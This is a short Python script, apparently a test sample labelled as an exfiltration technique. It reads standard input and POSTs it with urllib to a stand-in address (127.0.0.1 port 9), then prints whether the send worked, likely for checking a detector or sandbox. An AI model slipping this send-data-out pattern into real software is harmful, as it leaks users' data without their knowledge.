# technique: net-urllib-request — exfiltrates the input with urllib.request.urlopen.
import json
import sys
from urllib.request import Request, urlopen


def main():
    body = sys.stdin.read().encode()
    req = Request("http://127.0.0.1:9/x", data=body, method="POST")
    try:
        urlopen(req, timeout=1)
        sent = True
    except OSError:
        sent = False
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
